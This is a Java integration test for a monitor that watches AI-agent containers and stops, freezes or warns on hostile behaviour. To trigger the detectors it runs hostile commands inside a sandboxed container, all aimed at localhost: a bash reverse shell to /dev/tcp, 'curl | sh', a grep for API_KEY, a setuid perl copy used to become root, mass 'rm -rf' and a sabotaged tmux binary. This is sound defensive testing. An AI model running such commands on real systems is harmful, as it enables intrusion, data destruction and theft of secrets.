package dev.coi.kernel.sessions;

import static dev.coi.kernel.sessions.SessionTestBed.assertExit;
import static dev.coi.kernel.sessions.SessionTestBed.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.coi.api.CommandResult;
import dev.coi.api.ExecOptions;
import dev.coi.kernel.cli.CliRun;
import dev.coi.kernel.cli.CoiTerminal;
import dev.coi.kernel.incus.IncusException;
import dev.coi.kernel.incus.Instance;
import java.io.IOException;
import java.io.InputStream;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.Channels;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code coi shell --monitor} against an agent that turns hostile, from inside a real session: the keeper, reading
 * the container's processes and counts on the host, stops the container at a reverse shell (keeping a copy of it
 * without network, saving the session), freezes it at a download piped into a shell, at a process that became root
 * without sudo, at mass deletion in the workspace and at large reads, and warns about sudo, searches for secrets and
 * large writes, writing each event to the audit log; everyday work raises nothing.
 */
class MonitorIT {

    private static final ExecOptions AS_CODE = new ExecOptions(1000, 1000, "/workspace", Map.of("HOME", "/home/code"));
    private static final ExecOptions AS_ROOT = ExecOptions.asRoot();
    /** The keeper looks every 2 s; it may have to start first, and the copy takes a while. */
    private static final Duration RESPONSE = Duration.ofSeconds(90);
    /** A few of the keeper's looks. */
    private static final Duration QUIET = Duration.ofSeconds(8);
    /** A listener of the test's own in the container, which the reverse shell connects to. */
    private static final String LISTENER = "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(LocalAddr=>"
            + "\"127.0.0.1\",LocalPort=>4444,Listen=>1,ReuseAddr=>1) or die; $c=$s->accept; sleep 300'";

    @TempDir
    Path root;

    private SessionTestBed bed;

    @BeforeEach
    void setUp() {
        bed = new SessionTestBed(root);
    }

    @AfterEach
    void tearDown() {
        bed.close();
    }

    @Test
    void aReverseShellStopsTheSessionKeepsACopyWithoutNetworkAndIsAudited() throws Exception {
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        String sessionId = bed.container(1).orElseThrow(() -> new AssertionError(start.history())).config()
                .get(SessionLabels.SESSION_ID);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");
        assertTrue(Files.exists(bed.home.resolve(".coi/watch/" + container + ".json")), "the session is watched");

        CommandResult work = bed.incus.execOnce(container, List.of("bash", "-c", "git init -q w && cd w"
                + " && echo 'int main(){return 0;}' >m.c && git add m.c && git -c user.name=A"
                + " -c user.email=a@e2e.invalid commit -q -m work && git log --oneline && grep -rn main . >/dev/null"
                + " && bash -c 'for i in 1 2 3; do sleep 1; done'"), AS_CODE);
        assertEquals(0, work.exitCode(), work::toString);
        Thread.sleep(QUIET.toMillis());
        assertFalse(Files.exists(audit), () -> "everyday work raised events: " + read(audit));
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false));

        Instant attacked = Instant.now();
        try {
            bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f " + LISTENER
                    + " </dev/null >/dev/null 2>&1; sleep 1; setsid -f bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444"
                    + " 0>&1' </dev/null >/dev/null 2>&1; sleep 2"), AS_CODE);
        } catch (IncusException e) {
            // the shell that starts the attack is one itself: it may be stopped with the container before it ends
        }

        await(RESPONSE, () -> bed.container(1).isEmpty(), () -> "the container still runs\n" + bed.keeperLog());
        System.out.println("[monitor] reverse shell to container gone: "
                + Duration.between(attacked, Instant.now()).toMillis() + " ms");
        List<Instance> copies = bed.incus.instances().stream()
                .filter(instance -> instance.name().startsWith(container + "-forensic-")).toList();
        assertEquals(1, copies.size(), bed::keeperLog);
        assertTrue(copies.get(0).isStopped());
        assertEquals("none", copies.get(0).expandedDevices().get("eth0").get("type"), "the copy has no network");
        assertEquals("none", copies.get(0).expandedDevices().get("workspace").get("type"), "nor the workspace");
        assertTrue(copies.get(0).expandedDevices().values().stream()
                .allMatch(device -> "none".equals(device.get("type")) || "/".equals(device.get("path"))),
                () -> "no host folder: " + copies.get(0).expandedDevices());
        // the line says what was done, so it is written once the copy is made and the session ended
        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no audit line\n" + bed.keeperLog());
        JsonNode event = new ObjectMapper().readTree(read(audit).lines().findFirst().orElseThrow());
        assertEquals("reverse-shell", event.path("detector").asText(), event::toString);
        assertEquals("critical", event.path("level").asText());
        assertEquals(sessionId, event.path("session").asText());
        assertTrue(event.path("details").path("command").asText().contains("bash"), event::toString);
        assertTrue(event.path("response").asText().contains(copies.get(0).name()), event::toString);
        assertTrue(Files.exists(bed.sessionDirectory(sessionId).resolve(".claude")), "the session was saved");

        CliRun monitor = CliRun.of(bed.home, "monitor", container, "--format", "json");
        assertEquals(0, monitor.exitCode(), monitor::toString);
        assertEquals(event, new ObjectMapper().readTree(monitor.out().lines().findFirst().orElseThrow()));
        CliRun table = CliRun.of(bed.home, "monitor");
        assertTrue(table.out().contains("CRITICAL") && table.out().contains("reverse-shell"), table::toString);
    }

    @Test
    void aDownloadPipedIntoAShellFreezesTheContainerUntilTheUserLetsItGoOn() throws Exception {
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");

        CommandResult attack = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f sh -c"
                + " 'curl -fsS http://127.0.0.1:9/install.sh | sh; sleep 300' </dev/null >/dev/null 2>&1;"
                + " echo started"), AS_CODE);
        assertEquals(0, attack.exitCode(), attack::toString);

        awaitFrozen(audit);
        JsonNode event = new ObjectMapper().readTree(read(audit).lines().findFirst().orElseThrow());
        assertEquals("download-and-run", event.path("detector").asText(), event::toString);
        assertEquals("high", event.path("level").asText());
        assertTrue(event.path("response").asText().contains("coi container unfreeze " + container), event::toString);

        CliRun unfreeze = CliRun.of(bed.home, "container", "unfreeze", container);
        assertEquals(0, unfreeze.exitCode(), unfreeze::toString);
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false));
        Thread.sleep(QUIET.toMillis());
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false),
                () -> "the user's choice holds: " + bed.keeperLog());
        assertEquals(1, read(audit).lines().count(), "the same process is reported once");
    }

    @Test
    void sudoAndAHuntForSecretsAreWarnedAboutAndBecomingRootWithoutSudoFreezes() throws Exception {
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");

        // each under a shell of the user that stays its parent, as an agent's tool is
        CommandResult warned = bed.incus.execOnce(container, List.of("bash", "-c",
                "setsid -f bash -c 'sudo sleep 30; true' </dev/null >/dev/null 2>&1;"
                        + " setsid -f bash -c 'timeout 30 grep -r API_KEY / >/dev/null 2>&1; true' </dev/null;"
                        + " echo started"), AS_CODE);
        assertEquals(0, warned.exitCode(), warned::toString);
        await(RESPONSE, () -> events(audit).size() >= 2, () -> "not both reported\n" + bed.keeperLog());
        assertEquals(Map.of("root-process", "warning", "secret-search", "warning"), levels(audit), () -> read(audit));
        assertTrue(events(audit).stream().anyMatch(event -> event.path("message").asText().contains("sudo sleep 30")),
                () -> read(audit));
        Thread.sleep(QUIET.toMillis());
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false), "warnings do not stop the agent");
        CommandResult statusLine = bed.incus.execOnce(container, List.of("tmux", "show-options", "-v", "-t",
                "=coi-" + container + ":", "status-right"), AS_CODE);
        assertTrue(statusLine.stdout().matches("coi monitor: warning (root-process|secret-search)\\s*"),
                statusLine::toString);

        CommandResult setuid = bed.incus.execOnce(container, List.of("sh", "-c",
                "cp /usr/bin/perl /usr/local/bin/rootperl && chmod 4755 /usr/local/bin/rootperl"), AS_ROOT);
        assertEquals(0, setuid.exitCode(), setuid::toString);
        CommandResult raised = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f bash -c"
                + " '/usr/local/bin/rootperl -e \"\\$< = 0; \\$> = 0; sleep 300\"; true' </dev/null >/dev/null 2>&1;"
                + " echo started"), AS_CODE);
        assertEquals(0, raised.exitCode(), raised::toString);
        awaitFrozen(audit);
        JsonNode root = events(audit).stream().filter(event -> event.path("level").asText().equals("high"))
                .findFirst().orElseThrow(() -> new AssertionError(read(audit)));
        assertEquals("root-process", root.path("detector").asText(), root::toString);
        assertTrue(root.path("details").path("command").asText().contains("rootperl"), root::toString);
        assertEquals("0", root.path("details").path("uid").asText(), root::toString);
    }

    @Test
    void massDeletionInTheWorkspaceFreezesTheContainer() throws Exception {
        Path data = Files.createDirectories(bed.workspace.resolve("data"));
        for (int folder = 0; folder < 30; folder++) {
            Path files = Files.createDirectories(data.resolve("d" + folder));
            for (int file = 0; file < 40; file++) {
                Files.writeString(files.resolve("f" + file), "work");
            }
        }
        SessionTestBed.ownByHostUser(data);
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");
        // the workspace is watched from the keeper's first look at the session
        Thread.sleep(QUIET.toMillis());

        // apart from the exec, which would wait for it: it is frozen before it is done
        CommandResult removed = bed.incus.execOnce(container, List.of("bash", "-c",
                "setsid -f rm -rf /workspace/data </dev/null >/dev/null 2>&1; echo started"), AS_CODE);
        assertEquals(0, removed.exitCode(), removed::toString);

        awaitFrozen(audit);
        assertEquals(Map.of("mass-deletion", "high"), levels(audit), () -> read(audit));
        String message = events(audit).get(0).path("message").asText();
        // counted when it went over the threshold: the removal may still have been going on
        assertTrue(message.matches("1[0-9]{3} files and folders removed from the workspace within a minute .*"),
                message);

        CliRun view = CliRun.of(bed.home, "monitor");
        assertEquals(0, view.exitCode(), view::toString);
        List<String> lines = view.out().lines().toList();
        assertTrue(lines.get(0).matches("CONTAINER +STATE +CPU +MEMORY +DISK READ +DISK WRITTEN +CONNECTIONS"
                + " +PROCESSES +EVENTS"), view::toString);
        assertTrue(lines.get(1).matches(container + " +Frozen +[0-9.]+% +[0-9.]+ [KMG]iB .* 1 \\(1 high\\)"),
                view::toString);
        assertTrue(view.out().contains("mass-deletion"), view::toString);

        CoiTerminal shutdown = bed.run("shutdown", container);
        assertExit(0, shutdown);
        assertTrue(bed.container(1).isEmpty(), () -> "a frozen container is stopped at once and removed\n"
                + shutdown.history());
        assertTrue(shutdown.history().contains("is frozen: stopping it at once"), shutdown::history);
    }

    @Test
    void largeReadsFreezeTheContainerAndLargeWritesAreWarnedAbout() throws Exception {
        Path config = Files.createDirectories(bed.home.resolve(".config/coi")).resolve("config.toml");
        Files.writeString(config, """
                [monitoring]
                disk_read_mib_per_minute = 256
                disk_write_mib_per_minute = 256
                """);
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");
        Path socket = root.resolve("alerts.sock");
        ServerSocketChannel receiver = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
        receiver.bind(UnixDomainSocketAddress.of(socket));
        List<String> posted = new CopyOnWriteArrayList<>();
        Thread receiving = Thread.ofVirtual().start(() -> receive(receiver, posted));
        Thread webhook = Thread.ofVirtual().start(() -> CliRun.of(bed.home, "monitor", container, "--webhook",
                "unix:" + socket));
        Thread.sleep(QUIET.toMillis());

        // direct I/O reaches the disk: what a cache serves is not the container's disk I/O
        CommandResult written = bed.incus.execOnce(container, List.of("dd", "if=/dev/zero", "of=/home/code/big",
                "bs=1M", "count=400", "oflag=direct", "status=none"), AS_CODE);
        assertEquals(0, written.exitCode(), written::toString);
        await(RESPONSE, () -> levels(audit).containsKey("disk-write"), () -> read(audit) + bed.keeperLog());
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false), "a warning does not stop the agent");

        CommandResult readBack = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f dd if=/home/code/big"
                + " of=/dev/null bs=1M iflag=direct status=none </dev/null >/dev/null 2>&1; echo started"), AS_CODE);
        assertEquals(0, readBack.exitCode(), readBack::toString);
        awaitFrozen(audit);
        assertEquals(Map.of("disk-write", "warning", "disk-read", "high"), levels(audit), () -> read(audit));
        await(RESPONSE, () -> posted.size() >= 2, () -> "posted: " + posted);
        webhook.interrupt();
        receiver.close();
        receiving.join();
        assertEquals(events(audit).stream().map(JsonNode::toString).toList(), posted.stream().map(body -> {
            try {
                return new ObjectMapper().readTree(body).toString();
            } catch (IOException e) {
                throw new AssertionError(body, e);
            }
        }).toList(), "each event posted as its audit line");
    }

    /** Takes the webhook's posts until the socket is closed, answering each with 204. */
    private static void receive(ServerSocketChannel receiver, List<String> posted) {
        while (receiver.isOpen()) {
            try (SocketChannel client = receiver.accept()) {
                InputStream in = Channels.newInputStream(client);
                String head = "";
                while (!head.endsWith("\r\n\r\n")) {
                    int next = in.read();
                    if (next < 0) {
                        break;
                    }
                    head += (char) next;
                }
                int length = head.lines().filter(line -> line.startsWith("Content-Length: "))
                        .mapToInt(line -> Integer.parseInt(line.substring(16).strip())).findFirst().orElse(0);
                posted.add(new String(in.readNBytes(length), StandardCharsets.UTF_8));
                client.write(StandardCharsets.US_ASCII.encode("HTTP/1.1 204 No Content\r\n\r\n"));
            } catch (IOException e) {
                // closed: the test is done
            }
        }
    }

    @Test
    void anAgentThatMakesItsTmuxHangCannotHoldUpTheMonitor() throws Exception {
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");

        // the running tmux server goes on; every tmux command coi runs from now on hangs
        CommandResult planted = bed.incus.execOnce(container, List.of("sh", "-c", "mv /usr/bin/tmux /usr/bin/tmux.real"
                + " && printf '#!/bin/sh\\nexec sleep 600\\n' > /usr/bin/tmux && chmod 755 /usr/bin/tmux"), AS_ROOT);
        assertEquals(0, planted.exitCode(), planted::toString);
        CommandResult warned = bed.incus.execOnce(container, List.of("bash", "-c",
                "setsid -f bash -c 'sudo sleep 300; true' </dev/null >/dev/null 2>&1; echo started"), AS_CODE);
        assertEquals(0, warned.exitCode(), warned::toString);
        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no warning\n" + bed.keeperLog());

        CommandResult attack = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f sh -c"
                + " 'curl -fsS http://127.0.0.1:9/install.sh | sh; sleep 300' </dev/null >/dev/null 2>&1;"
                + " echo started"), AS_CODE);
        assertEquals(0, attack.exitCode(), attack::toString);
        awaitFrozen(audit);
        assertEquals(Map.of("root-process", "warning", "download-and-run", "high"), levels(audit), () -> read(audit));
    }

    /**
     * The container frozen, and the high event that froze it in the audit log: its line says what was done, so it is
     * written once the freeze is.
     */
    private void awaitFrozen(Path audit) {
        await(RESPONSE, () -> bed.container(1).map(Instance::isFrozen).orElse(false),
                () -> "the container is not frozen\n" + read(audit) + bed.keeperLog());
        await(RESPONSE, () -> levels(audit).containsValue("high"), () -> "no high event\n" + read(audit)
                + bed.keeperLog());
    }

    private static List<JsonNode> events(Path audit) {
        ObjectMapper json = new ObjectMapper();
        return read(audit).lines().map(line -> {
            try {
                return json.readTree(line);
            } catch (IOException e) {
                throw new AssertionError(line, e);
            }
        }).toList();
    }

    /** Each detector that reported, with the level of its last event. */
    private static Map<String, String> levels(Path audit) {
        Map<String, String> levels = new TreeMap<>();
        events(audit).forEach(event -> levels.put(event.path("detector").asText(), event.path("level").asText()));
        return levels;
    }

    private static String read(Path file) {
        try {
            return Files.exists(file) ? Files.readString(file) : "";
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }
}
